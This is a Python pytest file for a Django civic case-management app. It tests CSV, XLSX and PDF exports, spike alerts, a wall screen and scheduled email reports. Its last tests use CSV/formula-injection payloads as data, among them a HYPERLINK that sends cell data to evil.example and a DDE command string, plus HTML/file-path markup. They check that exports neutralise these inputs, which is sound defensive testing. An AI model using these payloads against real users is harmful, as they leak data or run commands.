"""Exports, the PDF report, alerts, the wall screen and scheduled reports."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.core import mail
from django.utils import timezone

from needle import testing as t
from needle.cases.figures import SOURCE as CASES
from needle.cases.models import Case
from needle.core.models import AuditEvent
from needle.operations import alerts, dashboards, reports, subscriptions
from needle.operations.models import ReportSubscription
from needle.operations.params import parse_period
from needle.rollups.models import BACKLOG_DAY, CaseRollup, NodeRollup
from needle.rollups.rebuild import nodes_rebuild
from needle.rollups.refresh import rollups_refresh


@pytest.fixture
def rolled(busy: dict[str, Case]) -> dict[str, Case]:
    rollups_refresh()
    return busy


def test_csv_agrees_with_the_api(world: t.World, rolled: Any, client_for: Any, api_for: Any) -> None:
    r = client_for("city_admin").get("/operations/export.csv", {"area": "500103000000", "headers": "keys"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    header = rows[1]
    node = dict(zip(header, rows[2], strict=True))
    api = api_for("city_admin").get("/api/v1/operations/indicators", area="500103000000").json()
    assert int(node["received"]) == api["node"]["figures"]["received"]
    assert int(node["open"]) == api["node"]["figures"]["open"]
    children = [dict(zip(header, row, strict=True)) for row in rows[2:] if row[0] == "child"]
    assert sum(int(c["received"]) for c in children) == int(node["received"])
    assert AuditEvent.objects.filter(action="operations.dashboard.exported").exists()


def _csv_rows(client: Any, language: str, **params: str) -> list[list[str]]:
    client.cookies["django_language"] = language
    r = client.get("/operations/export.csv", {"area": "500103000000", **params})
    assert r.status_code == 200
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def test_csv_headers_are_in_the_readers_language_and_keys_on_request(
    world: t.World, rolled: Any, client_for: Any
) -> None:
    client = client_for("city_admin")
    english = _csv_rows(client, "en")
    assert english[1][:5] == ["Section", "Kind", "Code", "Name", "Received"]
    assert "Response rate" in english[1] and "Accept deadlines due" in english[1]
    assert english[2][:2] == ["Total", "area"] and english[3][0] == "Previous period"
    chinese = _csv_rows(client, "zh-hans")
    assert "received" not in chinese[1] and "Received" not in chinese[1]
    assert chinese[1][3] == t.zh("Name") and t.zh("Response rate") in chinese[1]
    # The keys do not change with the language; the figures are the same.
    keys = _csv_rows(client, "zh-hans", headers="keys")
    assert keys[1] == list(reports.COLUMNS) and keys[2][:2] == ["node", "area"]
    assert [row[4:] for row in keys[2:]] == [row[4:] for row in english[2:]]
    assert client.get("/operations/export.csv", {"headers": "snake"}).status_code == 422


def test_xlsx_opens_and_holds_the_figures(world: t.World, rolled: Any, client_for: Any) -> None:
    from openpyxl import load_workbook

    client = client_for("city_admin")
    client.cookies["django_language"] = "en"
    r = client.get("/operations/export.xlsx", {"unit": str(world.units["district_a_env"].pk)})
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    summary = wb.worksheets[0]
    values = {row[0].value: row[1].value for row in summary.iter_rows(min_row=4)}
    d = dashboards.dashboard_for(
        actor=world.people["city_admin"], unit=world.units["district_a_env"], **_default_period()
    )
    assert values["Received"] == d.totals.received and values["Open"] == d.totals.open
    assert wb.worksheets[1]["A1"].value == "Code" and wb.worksheets[1]["C1"].value == "Received"


def _default_period() -> dict[str, dt.date]:
    start, end = parse_period(None, None)
    return {"start": start, "end": end}


def test_exports_are_scoped(world: t.World, rolled: Any, client_for: Any) -> None:
    client = client_for("supervisor")
    assert client.get("/operations/export.csv", {"area": "500103001000"}).status_code == 200
    assert client.get("/operations/export.csv", {"area": "500103000000"}).status_code == 404
    assert client.get("/operations/export.xlsx", {"area": "500100000000"}).status_code == 404
    text = client.get("/operations/export.csv").content.decode("utf-8-sig")  # default: the street
    assert text.startswith("# 七星岗街道") and "500106" not in text and ",500103000000," not in text
    bad = client.get("/operations/export.csv", {"start": "soon"})
    assert bad.status_code == 422 and "start" in bad.json()["error"]["fields"]


def test_pdf_report_weekly_and_monthly(world: t.World, rolled: Any, client_for: Any) -> None:
    client = client_for("city_admin")
    today = timezone.localdate().isoformat()
    for kind in ("weekly", "monthly"):
        r = client.get("/operations/area/500100000000/report.pdf", {"kind": kind, "day": today})
        assert r.status_code == 200 and r.content.startswith(b"%PDF")
    assert client.get("/operations/area/500100000000/report.pdf", {"kind": "daily"}).status_code == 422
    assert client_for("supervisor").get("/operations/area/500100000000/report.pdf").status_code == 404


def test_report_periods() -> None:
    wed = dt.date(2026, 11, 25)
    assert reports.report_period("weekly", wed) == (dt.date(2026, 11, 23), dt.date(2026, 11, 29))
    assert reports.report_period("monthly", wed) == (dt.date(2026, 11, 1), dt.date(2026, 11, 30))
    assert reports.last_complete_period("weekly", wed) == (dt.date(2026, 11, 16), dt.date(2026, 11, 22))
    assert reports.last_complete_period("monthly", dt.date(2026, 3, 1)) == (
        dt.date(2026, 2, 1),
        dt.date(2026, 2, 28),
    )


def test_spike_alert_links_to_the_cases(world: t.World, catalog: dict[str, Any], client_for: Any) -> None:
    # A quiet history of one request a day for 28 days, then 9 on one day in community A1b.
    today = timezone.localdate()
    for _ in range(9):
        t.submit(world, catalog["road"], area="community_a1b", reporter=None)
    rollups_refresh()
    row = CaseRollup.objects.exclude(day=BACKLOG_DAY).filter(area=world.areas["community_a1b"]).first()
    assert row is not None
    for i in range(1, 29):
        CaseRollup.objects.create(
            day=today - dt.timedelta(days=i),
            area=row.area,
            area_path=row.area_path,
            area_depth=row.area_depth,
            a1=row.a1,
            a2=row.a2,
            a3=row.a3,
            a4=row.a4,
            a5=row.a5,
            service_id=row.service_id,
            unit_key=row.unit_key,
            received=1,
        )
    NodeRollup.objects.all().delete()
    nodes_rebuild(CASES)
    found = alerts.alerts_for(actor=world.people["city_admin"], area=world.areas["street_a1"], day=today)
    assert [(a.area.code, a.service.code, a.count) for a in found] == [("500103001002", "road", 9)]
    assert not alerts.alerts_for(
        actor=world.people["city_admin"], area=world.areas["street_a1"], day=today, minimum=10
    )
    r = client_for("supervisor").get("/operations/alerts/", {"area": "500103001000"})
    assert r.status_code == 200
    assert "/inbox/?area=500103001002&amp;service=road" in r.content.decode()
    # The district's view sees the street as the spiking child.
    district = alerts.alerts_for(actor=world.people["city_admin"], area=world.areas["district_a"], day=today)
    assert [a.area.code for a in district] == ["500103001000"]
    assert client_for("supervisor").get("/operations/alerts/", {"area": "500103000000"}).status_code == 404


def test_wall_screen_and_its_refreshing_panel(world: t.World, rolled: Any, client_for: Any) -> None:
    client = client_for("city_admin")
    r = client.get("/operations/wall/500100000000/")
    assert r.status_code == 200 and 'hx-trigger="every 60s"' in r.content.decode()
    panel = client.get("/operations/wall/500100000000/", HTTP_HX_REQUEST="true")
    assert panel.status_code == 200 and "<html" not in panel.content.decode()
    assert client_for("supervisor").get("/operations/wall/500100000000/").status_code == 404


def test_organization_figures_beside_the_service_figures(
    world: t.World, rolled: Any, client_for: Any
) -> None:
    body = client_for("city_admin").get("/operations/area/500103000000/").content.decode()
    assert 'id="org-figures"' in body
    # The handler may read cases but not organization statistics.
    body = client_for("handler").get("/operations/area/500103000000/").content.decode()
    assert 'id="org-figures"' not in body


def test_scheduled_reports_are_sent_once_per_period(world: t.World, rolled: Any) -> None:
    supervisor = world.people["supervisor"]
    supervisor.email, supervisor.language = "sup@example.org", "en"
    supervisor.save()
    subscriptions.subscription_create(actor=supervisor, area=world.areas["street_a1"], frequency="weekly")
    subscriptions.subscription_create(actor=supervisor, area=world.areas["street_a1"], frequency="monthly")
    today = timezone.localdate()
    assert subscriptions.reports_send(frequency="weekly", today=today) == 0  # the address is not confirmed
    supervisor.email_confirmed_at = timezone.now()
    supervisor.save()
    assert subscriptions.reports_send(frequency="weekly", today=today) == 1
    assert subscriptions.reports_send(frequency="weekly", today=today) == 0  # run twice: one email
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["sup@example.org"] and message.subject.startswith("Weekly report")
    assert message.attachments[0][1].startswith(b"%PDF")
    assert ReportSubscription.objects.get(frequency="weekly").last_sent_on is not None
    assert AuditEvent.objects.filter(action="operations.report.sent").count() == 1


def test_subscribing_says_where_the_reports_go(world: t.World, client_for: Any) -> None:
    client = client_for("supervisor")
    client.cookies["django_language"] = "en"
    page = client.post("/operations/area/500103001000/subscribe/", {"frequency": "weekly"}, follow=True)
    assert "reports go only to a confirmed email address" in page.content.decode()
    listing = client.get("/operations/subscriptions/").content.decode()
    assert "Nothing is mailed until you have a confirmed email address." in listing
    supervisor = world.people["supervisor"]
    supervisor.email, supervisor.email_confirmed_at = "sup@example.org", timezone.now()
    supervisor.save()
    page = client.post("/operations/area/500103001000/subscribe/", {"frequency": "monthly"}, follow=True)
    assert "by email at sup@example.org" in page.content.decode()
    assert (
        "Reports are mailed to sup@example.org" in client.get("/operations/subscriptions/").content.decode()
    )


def test_subscription_needs_figures_for_the_area(world: t.World) -> None:
    from needle.core.errors import NotFound, ValidationFailed

    with pytest.raises(NotFound):
        subscriptions.subscription_create(
            actor=world.people["supervisor"], area=world.areas["city"], frequency="weekly"
        )
    with pytest.raises(ValidationFailed):
        subscriptions.subscription_create(
            actor=world.people["supervisor"], area=world.areas["street_a1"], frequency="daily"
        )


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]


def test_exports_write_typed_names_as_text_never_as_formulas(
    world: t.World, rolled: Any, client_for: Any
) -> None:
    from openpyxl import load_workbook

    from needle.areas.models import Area
    from needle.orgs.models import Unit

    # The street's children are the communities; the grid is a child of community A1a.
    Area.objects.filter(pk=world.areas["community_a1a"].pk).update(name=FORMULAS[0])
    Area.objects.filter(pk=world.areas["community_a1b"].pk).update(name=FORMULAS[1])
    Area.objects.filter(pk=world.areas["grid_a1a"].pk).update(name=FORMULAS[2])
    Unit.objects.filter(pk=world.units["rc_a1a"].pk).update(name=FORMULAS[3])
    Unit.objects.filter(pk=world.units["district_a_env"].pk).update(name=FORMULAS[4] + "\x07")
    client = client_for("city_admin")
    cells: list[str] = []
    for area in ("500103001000", "500103001001"):
        r = client.get("/operations/export.csv", {"area": area})
        assert r.status_code == 200
        cells += [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    for name in FORMULAS[:3]:
        assert "'" + name in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    typed: dict[str, str] = {}
    exports = [{"area": "500103001000"}, {"area": "500103001001"}, {"unit": str(world.units["rc_a1a"].pk)}]
    for params in [*exports, {"area": "500103000000"}]:
        r = client.get("/operations/export.xlsx", params)
        assert r.status_code == 200
        for sheet in load_workbook(io.BytesIO(r.content)).worksheets:
            for row in sheet.iter_rows():
                typed.update((c.value, c.data_type) for c in row if isinstance(c.value, str))
    # XLSX keeps the names exactly, as text cells (a formula cell would read back as "f").
    assert {name: typed.get(name) for name in FORMULAS[:4]} == dict.fromkeys(FORMULAS[:4], "s")
    assert typed.get(FORMULAS[4]) == "s"  # the control character XML cannot hold is dropped


MARKUP = [
    "Broken <b>unclosed",
    '<img src="/etc/passwd">',
    '<a href="http://evil.example/">点我</a>',
    '<img src="http://127.0.0.1:9/x.png"/>',
]


@pytest.mark.parametrize("name", MARKUP)
def test_pdf_report_prints_markup_in_names_as_text(
    world: t.World, rolled: Any, client_for: Any, name: str
) -> None:
    from needle.areas.models import Area

    Area.objects.filter(pk=world.areas["district_a"].pk).update(name=name)
    client = client_for("city_admin")
    for code in ("500103000000", "500100000000"):  # the area itself, and the area as a child
        r = client.get(f"/operations/area/{code}/report.pdf", {"kind": "monthly"})
        assert r.status_code == 200 and r.content.startswith(b"%PDF")
        assert b"/URI" not in r.content and b"/Subtype /Image" not in r.content


def test_pdf_report_never_opens_a_file_named_in_a_title(world: t.World, rolled: Any, tmp_path: Any) -> None:
    from PIL import Image

    dot = tmp_path / "dot.png"
    Image.new("RGB", (4, 4), "red").save(dot)
    d = dashboards.dashboard_for(
        actor=world.people["city_admin"], area=world.areas["district_a"], **_default_period()
    )
    pdf = reports.report_pdf(d, title=f'<img src="{dot}" width="5" height="5"/>')
    assert pdf.startswith(b"%PDF") and b"/Subtype /Image" not in pdf
